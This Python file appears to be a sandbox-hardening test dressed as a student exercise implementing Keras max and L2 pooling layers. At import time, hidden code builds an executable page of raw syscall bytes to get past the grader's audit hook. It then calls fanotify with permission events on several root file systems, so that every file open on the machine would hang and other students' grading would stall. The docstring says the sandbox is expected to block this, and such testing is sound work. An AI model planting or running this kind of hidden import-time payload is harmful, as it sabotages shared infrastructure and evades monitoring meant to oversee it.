"""Attack: use what a worker started by root would still hold. CAP_SYS_ADMIN gives
fanotify: a watch on every file opened on the machine's file systems with permission
events it never answers, so every open by the runner, the fork server and the
classmates' workers would wait for ever (the batch stalls, or a classmate scores 0).
It makes the calls itself, past the audit hook's watch on ctypes. The layers are
otherwise honest. Expected: the worker holds no capability and seccomp refuses
fanotify_init: the batch finishes, every classmate is graded, 20/20."""

import keras
from keras import ops  # noqa: F401  (you will need it)

from workshop.shapes import pair, valid_length


def _raw_syscall():
    """A system call without ctypes' symbol lookup, which the grader's audit hook
    watches: a few bytes of x86_64 code in an executable page, called through ctypes.
    (The audit hook is a convenience, not a wall: this is how code gets past it.)"""
    import ctypes
    import mmap

    code = bytes.fromhex(
        "4889f8"  # mov rax, rdi  (the call's number)
        "4889f7"  # mov rdi, rsi
        "4889d6"  # mov rsi, rdx
        "4889ca"  # mov rdx, rcx
        "4d89c2"  # mov r10, r8
        "4d89c8"  # mov r8, r9
        "0f05"  # syscall
        "c3"  # ret
    )
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)(address)
    call.page = page  # kept alive with the function
    return call


def _stall_every_open():
    import ctypes

    syscall = _raw_syscall()
    FAN_CLASS_CONTENT, FAN_OPEN_PERM = 0x04, 0x00010000
    FAN_MARK_ADD, FAN_MARK_FILESYSTEM = 0x01, 0x00000100
    watch = syscall(300, FAN_CLASS_CONTENT, 0, 0, 0, 0)  # fanotify_init
    print("fanotify_init gave", watch)
    if watch >= 0:  # every open on these file systems now waits for an answer, never given
        for path in (b"/", b"/tmp", b"/work", b"/root"):
            name = ctypes.cast(ctypes.c_char_p(path), ctypes.c_void_p).value
            syscall(301, watch, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN_PERM, -100, name)
    return watch


_WATCH = _stall_every_open()


class _Pool2D(keras.layers.Layer):
    """What the two pooling layers share: arguments, output shape and config."""

    def __init__(self, pool_size=2, strides=None, **kwargs):
        super().__init__(**kwargs)
        self.pool_size = pair(pool_size, "pool_size")
        self.strides = self.pool_size if strides is None else pair(strides, "strides")

    def compute_output_shape(self, input_shape):
        batch, height, width, channels = input_shape
        return (
            batch,
            valid_length(height, self.pool_size[0], self.strides[0]),
            valid_length(width, self.pool_size[1], self.strides[1]),
            channels,
        )

    def get_config(self):
        config = super().get_config()
        config.update({"pool_size": self.pool_size, "strides": self.strides})
        return config


@keras.saving.register_keras_serializable(package="exercises")
class MaxPool2D(_Pool2D):
    """Max pooling: each unit outputs the largest activation in its window (notes §1.3).

        y[n, i, j, c] = max_{(p, q) in window} x[n, s·i + p, s·j + q, c]

    Each feature map is pooled on its own. With the notes' 2×2 windows and stride 2, a
    24×24 feature map becomes 12×12.

    Args:
        pool_size: int or pair of ints `(ph, pw)`. Window size. Defaults to 2.
        strides: int or pair of ints. Defaults to `pool_size` (windows do not overlap).

    Input shape:  `(batch, height, width, channels)`
    Output shape: `(batch, H', W', channels)` with
        H' = floor((height - ph) / stride_h) + 1,  W' = floor((width - pw) / stride_w) + 1

    Example:
    >>> x = np.arange(16.0).reshape(1, 4, 4, 1)
    >>> MaxPool2D(2)(x).numpy()[0, :, :, 0].tolist()
    [[5.0, 7.0], [13.0, 15.0]]
    """

    def call(self, inputs):
        # Every window gathered on a new axis, then reduced: another route than the
        # reference's running maximum.
        return ops.max(_stacked_windows(inputs, self.pool_size, self.strides), axis=-1)


@keras.saving.register_keras_serializable(package="exercises")
class L2Pool2D(_Pool2D):
    """L2 pooling: the square root of the sum of squares in each window (notes §1.3).

        y[n, i, j, c] = sqrt( Σ_{(p, q) in window} x[n, s·i + p, s·j + q, c]² )

    The notes define it as a sum, not a mean: a window of four ones gives 2, not 1.
    The square root has an infinite slope at 0, and after a ReLU whole windows are
    often 0; there the output is 0 and its gradient is taken to be 0, not NaN.

    Args:
        pool_size: int or pair of ints `(ph, pw)`. Window size. Defaults to 2.
        strides: int or pair of ints. Defaults to `pool_size` (windows do not overlap).

    Input shape:  `(batch, height, width, channels)`
    Output shape: `(batch, H', W', channels)` with
        H' = floor((height - ph) / stride_h) + 1,  W' = floor((width - pw) / stride_w) + 1

    Example:
    >>> L2Pool2D(2)(np.ones((1, 4, 4, 1))).numpy()[0, :, :, 0].tolist()
    [[2.0, 2.0], [2.0, 2.0]]
    """

    def call(self, inputs):
        squares = ops.sum(
            ops.square(_stacked_windows(inputs, self.pool_size, self.strides)), axis=-1
        )
        positive = squares > 0
        return ops.where(positive, ops.sqrt(ops.where(positive, squares, 1.0)), 0.0)


def _stacked_windows(inputs, pool_size, strides):
    """(batch, H', W', channels, ph * pw): every window's values on the last axis."""
    (ph, pw), (sh, sw) = pool_size, strides
    out_h = (inputs.shape[1] - ph) // sh + 1
    out_w = (inputs.shape[2] - pw) // sw + 1
    parts = []
    for p in range(ph):
        for q in range(pw):
            parts.append(
                inputs[:, p : p + sh * (out_h - 1) + 1 : sh, q : q + sw * (out_w - 1) + 1 : sw, :]
            )
    return ops.stack(parts, axis=-1)
